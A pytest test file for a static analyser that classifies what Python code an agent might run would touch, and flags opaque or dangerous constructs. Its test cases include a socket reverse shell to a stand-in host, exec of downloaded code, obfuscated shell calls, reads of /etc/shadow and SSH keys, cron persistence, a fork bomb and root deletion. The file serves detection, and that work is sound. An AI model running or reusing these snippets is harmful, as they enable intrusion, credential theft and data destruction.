"""Python: what a text would do, and that whatever could do more is opaque."""

import pytest

from interlock.analyst.python import analyse
from support.analysing import codes, place, touches

KNOWN = [
    ("print(sum(range(10)))", set()),
    ("import json\nprint(json.dumps({'a': [1, 2]}, indent=2))", set()),
    ("from datetime import datetime\nprint(datetime.now().isoformat())", set()),
    ("import re, math\nx = re.sub('a', 'b', 'aaa')\nprint(math.sqrt(4), x)", set()),
    ("import functools\ndef keep(f):\n    @functools.wraps(f)\n    def inner(*a):\n        return f(*a)\n    return inner", set()),
    ("class A:\n    def __init__(self):\n        self.x = 1\n    def go(self):\n        return self.x\nA().go()", set()),
    ("with open('in.csv') as f:\n    rows = f.readlines()", {"read file:/proj/site/in.csv"}),
    ("open('out.txt', 'w').write('x')", {"write file:/proj/site/out.txt"}),
    ("open('log.txt', mode='a')", {"write file:/proj/site/log.txt"}),
    ("open('both.txt', 'r+')", {"write file:/proj/site/both.txt", "read file:/proj/site/both.txt"}),
    ("base = 'data'\nopen(base + '/x.txt')", {"read file:/proj/site/data/x.txt"}),
    ("import os\nopen(os.path.join('a', 'b', 'c.txt'))", {"read file:/proj/site/a/b/c.txt"}),
    ("from pathlib import Path\n(Path('a') / 'b.txt').write_text('x')", {"write file:/proj/site/a/b.txt"}),
    ("from pathlib import Path\nPath('old').unlink()", {"delete file:/proj/site/old"}),
    ("import os as o\no.remove('x')", {"delete file:/proj/site/x"}),
    ("from os import rename as r\nr('a', 'b')", {"delete file:/proj/site/a", "write file:/proj/site/b"}),
    ("import shutil\nshutil.copy('a', 'b')", {"read file:/proj/site/a", "write file:/proj/site/b"}),
    ("import os\nos.makedirs('out/x', exist_ok=True)", {"write file:/proj/site/out/x"}),
    ("import os\nprint(os.environ['HOME'], os.getenv('PATH'))", {"read environment:HOME", "read environment:PATH"}),
    ("import requests\nrequests.get('https://api.example/x').json()", {"send endpoint:api.example:443"}),
    ("from urllib.request import urlopen\nurlopen('http://a.example/')", {"send endpoint:a.example:80"}),
    ("import requests\ns = requests.Session()\ns.post('https://a.example/', data={})", {"send endpoint:a.example:443"}),
    ("import sqlite3\nc = sqlite3.connect('a.db')\nc.execute('DELETE FROM t WHERE id = 1')", {"write file:/proj/site/a.db", "delete table:t"}),
    ("import smtplib\nsmtplib.SMTP('mail.example', 25)", {"send endpoint:mail.example:25"}),
    ("try:\n    x = 1 / 0\nexcept ZeroDivisionError as e:\n    raise ValueError(str(e)) from e", set()),
    ("import threading\ndef go():\n    pass\nthreading.Thread(target=go).start()", set()),
    ("x = {'a': 1}\nprint(x.get('a'), *x)", set()),
]  # fmt: skip


@pytest.mark.parametrize(("text", "touched"), KNOWN)
def test_what_is_understood_is_known(text: str, touched: set[str]) -> None:
    claims = analyse(text, place())
    assert touches(claims) == touched
    assert not claims.opaque_codes


HANDED = [
    ("import os\nos.system('ls -l')", "ls -l"),
    ("import subprocess as sp\nsp.run(['git', 'log', '-1'])", "git log -1"),
    ("import subprocess\nsubprocess.run('a | b', shell=True)", "a | b"),
    ("import subprocess\nsubprocess.run(['rm x'], shell=True)", "rm x"),
    ("import subprocess\nsubprocess.check_output('two words')", "'two words'"),
    ("from os import popen\npopen('id')", "id"),
    ("import os\nc = 'rm -r' + 'f ' + '/x'\nos.system(c)", "rm -rf /x"),
    ("import os\nos.system(f\"echo {'hi'}\")", "echo hi"),
    ("import os\nos.system('fr- mr'[::-1])", "rm -rf"),
    ("import os\nos.system(''.join(['i', 'd']))", "id"),
    ("import os\nos.system(chr(105) + chr(100))", "id"),
    ("import os, base64\nos.system(base64.b64decode('aWQ=').decode())", "id"),
    ("import os\nos.system(bytes.fromhex('6964').decode())", "id"),
    ("import os, codecs\nos.system(codecs.decode('vq', 'rot13'))", "id"),
    ("__import__('os').system('id')", "id"),
    ("import os\ngetattr(os, 'sys' + 'tem')('id')", "id"),
    ("import subprocess\nsubprocess.run('rm a b'.split())", "rm a b"),
    ("exec(\"import os; os.system('id')\")", "id"),
    ("import pty\npty.spawn('/bin/sh')", "/bin/sh"),
]


@pytest.mark.parametrize(("text", "line"), HANDED)
def test_what_runs_outside_is_handed_to_the_shells_analyser(text: str, line: str) -> None:
    handed: list[str] = []
    analyse(text, place(handed))
    assert handed == [line]


OPAQUE = [
    ("import os\nos.system(input())", {"python.dynamic_command"}),
    ("import subprocess, sys\nsubprocess.run(sys.argv[1:])", {"python.dynamic_command"}),
    ("import subprocess\nc = ['ls']\nc[0] = 'rm'\nsubprocess.run(c)", {"python.dynamic_command"}),
    ("import subprocess\nsubprocess.run(['ls'], **{'shell': True})", {"python.dynamic_command"}),
    ("import subprocess\nsubprocess.run(['ls'], executable='/bin/rm')", {"python.dynamic_command"}),
    ("import os\nx = 'a'\nx = 'b'\nos.remove(x)", {"python.dynamic_path"}),
    ("import os\nf = os.system\nf('id')", {"python.reference"}),
    ("import os\nprint(list(map(os.system, ['id'])))", {"python.reference"}),
    ("import os\n[os][0].system('id')", {"python.reference", "python.process"}),
    ("import os\ngetattr(os, input())('id')", {"python.dynamic_attribute"}),
    ("from random import _os\n_os.system('id')", {"python.call"}),
    ("import uuid\nuuid.os.system('id')", {"python.call"}),
    ("import json\njson.codecs.builtins.exec('1')", {"python.call"}),
    ("().__class__.__base__.__subclasses__()", {"python.introspection"}),
    ("print.__self__.exec('1')", {"python.introspection"}),
    ("(lambda: 0).__globals__", {"python.introspection"}),
    ("__builtins__['exec']('1')", {"python.unknown_name"}),
    ("eval(input())", {"python.dynamic_code", "python.evaluates"}),
    ("import requests\nexec(requests.get('http://a.example/').text)", {"download.executed", "python.dynamic_code"}),
    ("import importlib\nimportlib.import_module(input())", {"python.dynamic_import"}),
    ("import pickle\npickle.loads(b'')", {"python.deserialises"}),
    ("import ctypes\nctypes.CDLL('libc.so.6').system(b'id')", {"python.native"}),
    ("import pandas as pd\npd.read_csv('x')", {"python.module"}),
    ("from .tools import go\ngo()", {"python.module"}),
    ("from os import *\nsystem('id')", {"python.module", "python.unknown_name"}),
    ("print = 1\nopen = len\nopen('x')", {"python.patches"}),
    ("import os\nos.path.join = eval", {"python.patches", "python.reference"}),
    ("def f():\n    open = 1\nopen('/etc/passwd', 'w')", {"python.patches"}),
    ("import os\ndef os(): pass\nos.system('id')", {"python.ambiguous_name"}),
    ("import os\nos.fork()", {"python.process"}),
    ("import os\nwhile True:\n    os.fork()", {"fork.bomb"}),
    ("import os\nos.execv('/bin/sh', ['sh'])", {"python.dynamic_command"}),
    ("import requests\ndef go(u):\n    requests.get(u)", {"python.dynamic_url"}),
    ("import requests\ns = requests.Session()\ndef go(u):\n    s.get(u)", {"python.dynamic_url"}),
    ("import socket\ns = socket.socket()\ns.connect((h, 1))", {"python.dynamic_url", "python.unknown_name"}),
    ("from pathlib import Path\nr = Path.read_text\nr(Path('/etc/shadow'))", {"python.reference"}),
    ("class U:\n    def unlink(self): pass\ndef go(p):\n    p.unlink()", {"python.dynamic_path"}),
    ("import tarfile\ntarfile.open('a.tar').extractall()", {"python.archive"}),
    ("import os\nprint(dict(os.environ))", {"environment.read"}),
    ("open('/etc/cron.d/x', 'w')", {"path.system", "path.persistence"}),
    ("open('/home/ada/.ssh/id_rsa')", {"credential.read"}),
    ("import socket, os\ns = socket.socket()\ns.connect(('b.example', 1))\nos.dup2(s.fileno(), 0)", {"shell.reverse"}),
    ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", {"text.encoded_command"}),
    ("import subprocess\nsubprocess.run(['ls'], cwd='/etc')", {"python.dynamic_command"}),
    ("import subprocess\nsubprocess.run(['sh'], input=b'id')", {"python.dynamic_command"}),
    ("import os\nos.environ['LD_PRELOAD'] = 'x.so'", {"python.environment"}),
    ("import os\nos.environ.update(PATH='x')", {"python.environment"}),
    ("import os\nos.chdir('/etc')\nopen('passwd')", {"python.call"}),
    ("import asyncio\nasyncio.create_subprocess_exec('rm', 'x')", {"python.dynamic_command"}),
    ("breakpoint()", {"python.call"}),
    ("def broken(:", {"python.syntax"}),
    ("x = 'a\0b'", {"python.syntax"}),
    ("x = " + "(" * 5000, {"python.syntax"}),
    ("x = " + "-" * 90000 + "1", {"python.too_large"}),
    ("x" * 200_000, {"python.too_large"}),
]  # fmt: skip


@pytest.mark.parametrize(("text", "expected"), OPAQUE)
def test_whatever_could_do_more_is_told(text: str, expected: set[str]) -> None:
    assert expected <= codes(analyse(text, place()))


def test_a_module_that_the_agent_wrote_is_read() -> None:
    handed: list[str] = []
    scripts = {
        "/proj/site/helper.py": "import os\nos.system('id')",
        "/proj/site/json.py": "import os\nos.system('uname')",
    }
    claims = analyse("import helper, json\nhelper.go()", place(handed, scripts=scripts))
    assert handed == ["id", "uname"]
    assert "python.module" not in claims.opaque_codes


def test_scripts_that_import_each_other_end() -> None:
    scripts = {"/proj/site/a.py": "import b", "/proj/site/b.py": "import a"}
    assert "analysis.too_nested" in analyse("import a", place(scripts=scripts)).opaque_codes


def test_folding_is_linear_in_the_text() -> None:
    doubled = "\n".join(f"v{n} = v{n + 1} + v{n + 1}" for n in range(60))
    claims = analyse(f"import os\n{doubled}\nv60 = 'x'\nos.system(v0)", place())
    assert "python.dynamic_command" in claims.opaque_codes


@pytest.mark.parametrize(
    ("text", "signal"),
    [
        ("import os\nos.execl('/bin/sh', 'sh', '-p')", "shell.escape"),
        ("import os\nos.system('/bin/sh')", "shell.escape"),
        ("import subprocess\nsubprocess.run(['bash', '-i'])", "shell.escape"),
        ("import shutil\nshutil.rmtree('/etc')", "recursive.root_delete"),
        ("import shutil\nshutil.rmtree('/srv/data')", "recursive.outside_delete"),
        ("open('/etc/cron.d/job', 'w')", "persistence.scheduled"),
        ("import os\nos.remove('/lib/x86_64-linux-gnu/libc.so.6')", "system.damaged"),
    ],
)
def test_a_file_means_what_it_means_to_a_shell(text: str, signal: str) -> None:
    assert signal in analyse(text, place()).signals
    assert "recursive.outside_delete" not in analyse("import shutil\nshutil.rmtree('build')", place()).signals
